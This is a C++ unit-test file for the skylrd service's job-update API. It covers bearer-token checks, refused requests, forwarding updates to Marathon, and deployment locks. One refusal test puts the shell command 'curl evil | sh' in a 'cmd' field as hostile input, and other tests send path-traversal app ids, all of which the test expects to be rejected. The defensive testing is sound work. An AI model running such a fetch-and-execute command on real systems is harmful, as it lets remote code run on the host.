// skylrd's job-update endpoints on a test server: authentication, authorisation (nothing
// forwarded on a refusal), forwarding through MarathonClient to a scripted Marathon
// (FakeHttpClient) and to the real simulator (locks with and without force).
#include "job_update_api.h"

#include <doctest/doctest.h>

#include <mutex>
#include <string>
#include <vector>

#include "fake_file_system.h"
#include "fake_http_client.h"
#include "http_api.h"
#include "sim_fixture.h"
#include "skylr/httplib_client.h"
#include "test_server.h"

namespace skylr {
namespace {

constexpr const char* kSecret = "0123456789abcdef";
constexpr const char* kMarathon = "http://m1:8080";
constexpr const char* kDeployed = R"({"deploymentId":"d-1","version":"2024-05-01T10:00:00.000Z"})";

Config job_config(int marathon_port = 8080) {
  Config config;
  config.marathon_hosts = {MarathonEndpoint{"http", marathon_port == 8080 ? "m1" : "127.0.0.1", marathon_port, ""}};
  for (const char* id : {"/web", "/grp/api"}) {
    ServiceConfig service;
    service.name = std::string(id).substr(1);
    service.app_id = id;
    config.services[service.name] = service;
  }
  config.job_updates.tokens = {{"ci", kSecret}};
  return config;
}

// The audit lines written so far.
class AuditLines {
 public:
  void add(std::string_view line) {
    std::lock_guard lock(mutex_);
    lines_.emplace_back(line);
  }
  std::vector<std::string> lines() const {
    std::lock_guard lock(mutex_);
    return lines_;
  }

 private:
  mutable std::mutex mutex_;
  std::vector<std::string> lines_;
};

// skylrd's HTTP API on a test server, with Marathon reached through `http`.
struct Api {
  SharedConfig config;
  PeerAllowlist peers;
  Notifications notifications{std::chrono::milliseconds(0), std::chrono::milliseconds(0)};
  Metrics metrics;
  StatusBoard board;
  MarathonClient marathon;
  AuditLines audit;
  testing::TestServer server;

  Api(const Config& initial, HttpClient& http)
      : config(initial),
        marathon(initial.marathon_hosts, std::nullopt, http),
        server([this](httplib::Server& s) {
          install_http_api(s, {&config, &peers, &notifications, &metrics, &board, &marathon,
                               [this](std::string_view line) { audit.add(line); }});
        }) {}

  // `method` `path` with `body`, presenting `token` as a bearer token unless empty.
  httplib::Result call(const std::string& method, const std::string& path, const std::string& body,
                       const std::string& token = kSecret) {
    httplib::Client client(server.origin());
    client.set_read_timeout(10, 0);
    httplib::Headers headers;
    if (!token.empty()) headers.emplace("Authorization", "Bearer " + token);
    if (method == "PUT") return client.Put(path.c_str(), headers, body, "application/json");
    if (method == "GET") return client.Get(path.c_str(), headers);
    return client.Post(path.c_str(), headers, body, "application/json");
  }
};

std::vector<std::string> methods_and_targets(const testing::FakeHttpClient& http) {
  std::vector<std::string> out;
  for (const HttpRequest& request : http.requests()) out.push_back(request.method + " " + request.target);
  return out;
}

}  // namespace

TEST_CASE("skylr::install_job_update_api authentication") {
  testing::FakeHttpClient http;
  http.answer(kMarathon, 200, kDeployed);
  const std::string body = R"({"/web": {"instances": 3}})";

  SUBCASE("no token configured: 403 saying how to enable; nothing forwarded") {
    Config config = job_config();
    config.job_updates.tokens.clear();
    Api api(config, http);
    auto answer = api.call("POST", "/updateApp", body);
    REQUIRE(answer);
    CHECK(answer->status == 403);
    CHECK(answer->body ==
          R"({"message":"job updates are disabled: configure job_updates.tokens or job_updates.tokens_file"})");
    CHECK(http.requests().empty());
    CHECK(api.audit.lines() == std::vector<std::string>{
                                   "audit: job update refused from 127.0.0.1: job updates are disabled: configure "
                                   "job_updates.tokens or job_updates.tokens_file"});
  }
  SUBCASE("missing token: 401 with WWW-Authenticate; nothing forwarded") {
    Api api(job_config(), http);
    auto answer = api.call("POST", "/updateApp", body, "");
    REQUIRE(answer);
    CHECK(answer->status == 401);
    CHECK(answer->get_header_value("WWW-Authenticate") == "Bearer");
    CHECK(answer->body == R"({"message":"a bearer token is required: send Authorization: Bearer <token>"})");
    CHECK(http.requests().empty());
  }
  SUBCASE("wrong tokens, of the same and of other lengths: 401; nothing forwarded") {
    Api api(job_config(), http);
    for (std::string token : {"0123456789abcdeX", "0123456789abcde", "0123456789abcdef0", "x"}) {
      CAPTURE(token);
      auto answer = api.call("POST", "/updateApp", body, token);
      REQUIRE(answer);
      CHECK(answer->status == 401);
      CHECK(answer->get_header_value("WWW-Authenticate") == "Bearer");
      CHECK(answer->body == R"({"message":"the bearer token is not valid"})");
    }
    auto basic = api.call("PUT", "/apps/web", R"({"instances": 3})", "");
    REQUIRE(basic);
    CHECK(basic->status == 401);
    CHECK(http.requests().empty());
    CHECK(api.audit.lines().back() == "audit: job update refused from 127.0.0.1: a bearer token is required: send "
                                      "Authorization: Bearer <token>");
  }
  SUBCASE("the right token: forwarded, 200 with Marathon's deployment") {
    Api api(job_config(), http);
    auto answer = api.call("POST", "/updateApp", body);
    REQUIRE(answer);
    CHECK(answer->status == 200);
    CHECK(answer->body ==
          R"({"results":{"/web":{"status":200,"deploymentId":"d-1","version":"2024-05-01T10:00:00.000Z"}}})");
    REQUIRE(http.requests().size() == 1);
    CHECK(http.requests()[0].method == "PUT");
    CHECK(http.urls()[0] == "http://m1:8080/v2/apps/web?force=false");
    CHECK(http.requests()[0].body == R"({"instances":3})");
    CHECK(api.audit.lines() ==
          std::vector<std::string>{
              R"(audit: job update by token "ci" from 127.0.0.1: app /web fields instances=3 -> HTTP 200 deployment d-1)"});
  }
}

TEST_CASE("skylr::install_job_update_api refusals forward nothing") {
  testing::FakeHttpClient http;
  http.answer(kMarathon, 200, kDeployed);
  Api api(job_config(), http);
  struct Case {
    std::string method;
    std::string path;
    std::string body;
    int status;
    std::string message;
  };
  const Case cases[] = {
      {"POST", "/updateApp", R"({"/web": {"instances": 3}, "/grp/api": {"cmd": "curl evil | sh"}})", 403,
       R"(field \"cmd\" of app /grp/api is not allowed (allowed: instances, cpus, mem))"},
      {"POST", "/updateApp", R"({"/web": {"instances": 3}, "/db": {"instances": 1}})", 403,
       "app /db is not tracked by this skylrd"},
      {"PUT", "/apps/db", R"({"instances": 1})", 403, "app /db is not tracked by this skylrd"},
      {"POST", "/updateApp", R"({"/web": {"instances": 3}, "/grp/api": {"mem": 8}})", 400,
       "/grp/api.mem: expected a number of MiB 32-1048576, got 8"},
      {"POST", "/updateApp", R"({"/web": )", 400,
       "request body: invalid JSON at line 1, column 10: Invalid value."},
      {"POST", "/updateApp?force=yes", R"({"/web": {"instances": 3}})", 400,
       R"(force: expected true or false, got \"yes\")"},
      {"PUT", "/apps/grp%2Fapi", R"({"instances": 3})", 400,
       R"(the app id must not be percent-encoded: \"/apps/grp%2Fapi\")"},
      {"PUT", "/apps/grp/../web", R"({"instances": 3})", 400,
       R"(app id \"grp/../web\" is not valid: use segments of letters, digits, '.', '_' and '-' separated by '/', none of them \".\" or \"..\")"},
      {"PUT", "/apps/web", R"({"instances": "3"})", 400, R"(instances: expected an integer 0-10000, got \"3\")"},
  };
  for (const Case& c : cases) {
    CAPTURE(c.path);
    CAPTURE(c.body);
    auto answer = api.call(c.method, c.path, c.body);
    REQUIRE(answer);
    CHECK(answer->status == c.status);
    CHECK(answer->body == R"({"message":")" + c.message + R"("})");
  }
  SUBCASE("a body over 1 MiB: 413") {
    auto answer = api.call("POST", "/updateApp", std::string(kMaxRequestBody + 1, ' '));
    REQUIRE(answer);
    CHECK(answer->status == 413);
  }
  CHECK(http.requests().empty());
  CHECK(api.audit.lines().front() ==
        R"(audit: job update refused for token "ci" from 127.0.0.1: field "cmd" of app /grp/api is not allowed )"
        "(allowed: instances, cpus, mem)");
}

TEST_CASE("skylr::install_job_update_api forwarding") {
  testing::FakeHttpClient http;

  SUBCASE("several apps in the body's order; a lock makes the whole a 409") {
    http.answer(kMarathon, 200, kDeployed, {}, "/v2/apps/web?force=false");
    http.answer(kMarathon, 409,
                R"({"message":"App is locked by one or more deployments.","deployments":[{"id":"d-0"}]})", {},
                "/v2/apps/grp/api?force=false");
    Api api(job_config(), http);
    auto answer = api.call("POST", "/updateApp", R"({"/web": {"cpus": 0.5}, "grp/api": {"instances": 2}})");
    REQUIRE(answer);
    CHECK(answer->status == 409);
    CHECK(answer->body == R"({"results":{"/web":{"status":200,"deploymentId":"d-1","version":"2024-05-01T10:00:00.000Z"},)"
                          R"("/grp/api":{"status":409,"message":"App is locked by one or more deployments.",)"
                          R"("deployments":["d-0"]}}})");
    CHECK(methods_and_targets(http) ==
          std::vector<std::string>{"PUT /v2/apps/web?force=false", "PUT /v2/apps/grp/api?force=false"});
    CHECK(api.audit.lines()[1] == R"(audit: job update by token "ci" from 127.0.0.1: app /grp/api fields )"
                                  "instances=2 -> HTTP 409: App is locked by one or more deployments.");
  }
  SUBCASE("PUT /apps/<nested id> with force; PATCH when configured") {
    http.answer(kMarathon, 200, kDeployed);
    Config config = job_config();
    config.job_updates.use_patch = true;
    Api api(config, http);
    auto answer = api.call("PUT", "/apps/grp/api?force=true", R"({"instances": 0})");
    REQUIRE(answer);
    CHECK(answer->status == 200);
    CHECK(methods_and_targets(http) == std::vector<std::string>{"PATCH /v2/apps/grp/api?force=true"});
    CHECK(api.audit.lines().back() == R"(audit: job update by token "ci" from 127.0.0.1: app /grp/api fields )"
                                      "instances=0 (force) -> HTTP 200 deployment d-1");
  }
  SUBCASE("Marathon rejects the app: 422 with its details") {
    http.answer(kMarathon, 422, R"({"message":"Object is not valid","details":[{"path":"/mem","errors":["x"]}]})");
    Api api(job_config(), http);
    auto answer = api.call("PUT", "/apps/web", R"({"mem": 64})");
    REQUIRE(answer);
    CHECK(answer->status == 422);
    CHECK(answer->body == R"({"results":{"/web":{"status":422,"message":"Object is not valid",)"
                          R"("details":[{"path":"/mem","errors":["x"]}]}}})");
  }
  SUBCASE("Marathon down: 502 with the error of each app") {
    Api api(job_config(), http);
    auto answer = api.call("POST", "/updateApp", R"({"/web": {"instances": 1}})");
    REQUIRE(answer);
    CHECK(answer->status == 502);
    CHECK(answer->body == R"({"results":{"/web":{"error":"no Marathon answered: http://m1:8080: cannot connect"}}})");
    CHECK(api.audit.lines().back() == R"(audit: job update by token "ci" from 127.0.0.1: app /web fields )"
                                      "instances=1 -> failed: no Marathon answered: http://m1:8080: cannot connect");
  }
  SUBCASE("wrong methods: 405 with Allow") {
    Api api(job_config(), http);
    const std::pair<std::string, std::string> cases[] = {{"/updateApp", "POST"}, {"/apps/grp/api", "PUT"}};
    for (const auto& [path, allow] : cases) {
      auto answer = api.call(allow == "PUT" ? "POST" : "GET", path, "{}");
      REQUIRE(answer);
      CHECK(answer->status == 405);
      CHECK(answer->get_header_value("Allow") == allow);
    }
    CHECK(http.requests().empty());
  }
}

TEST_CASE("skylr::install_job_update_api with marathon-sim") {
  constexpr const char* kApps =
      R"({"apps":[{"id":"/web","cmd":"sleep 1000","instances":1,"cpus":0.1,"mem":32,"portDefinitions":[{"port":0}]}]})";
  sim::testing::RunningSim sim(sim::testing::test_options(3000), kApps);
  Api api(job_config(sim.port()), httplib_client());

  auto first = api.call("PUT", "/apps/web", R"({"instances": 2})");
  REQUIRE(first);
  REQUIRE(first->status == 200);
  std::string first_id = sim::testing::str(
      sim::testing::at(sim::testing::at(sim::testing::parse(first->body), "results"), "/web"), "deploymentId");

  SUBCASE("a second update while the first deploys: 409 naming the deployment") {
    auto locked = api.call("POST", "/updateApp", R"({"/web": {"instances": 3}})");
    REQUIRE(locked);
    CHECK(locked->status == 409);
    auto results = sim::testing::parse(locked->body);
    const auto& web = sim::testing::at(sim::testing::at(results, "results"), "/web");
    CHECK(sim::testing::at(web, "status").GetInt() == 409);
    CHECK(sim::testing::str(web, "message").starts_with("App is locked by one or more deployments."));
    REQUIRE(sim::testing::at(web, "deployments").IsArray());
    CHECK(sim::testing::at(web, "deployments")[0].GetString() == first_id);
  }
  SUBCASE("with force=true the update replaces the deployment") {
    auto forced = api.call("POST", "/updateApp?force=true", R"({"/web": {"instances": 3}})");
    REQUIRE(forced);
    CHECK(forced->status == 200);
    auto client = sim.client();
    auto deployments = sim::testing::get_json(client, "/v2/deployments");
    REQUIRE(deployments.IsArray());
    REQUIRE(deployments.Size() == 1);
    CHECK(sim::testing::str(deployments[0], "id") != first_id);
    auto app = sim::testing::get_json(client, "/v2/apps/web");
    CHECK(sim::testing::at(sim::testing::at(app, "app"), "instances").GetInt() == 3);
  }
}

TEST_CASE("skylr::prepare_job_updates") {
  testing::FakeFileSystem fs;
  Config config = job_config();
  SUBCASE("the tokens file's tokens join the config's") {
    fs.put("/etc/skylr/tokens", "deploy:aaaaaaaaaaaaaaaaaaaa\n");
    config.job_updates.tokens_file = "/etc/skylr/tokens";
    REQUIRE(prepare_job_updates(fs, config));
    REQUIRE(config.job_updates.tokens.size() == 2);
    CHECK(config.job_updates.tokens[1].name == "deploy");
  }
  SUBCASE("an unreadable tokens file is reported") {
    config.job_updates.tokens_file = "/etc/skylr/none";
    Status prepared = prepare_job_updates(fs, config);
    REQUIRE_FALSE(prepared);
    CHECK(prepared.error().message ==
          "job_updates.tokens_file: cannot read /etc/skylr/none: No such file or directory");
  }
}

}  // namespace skylr
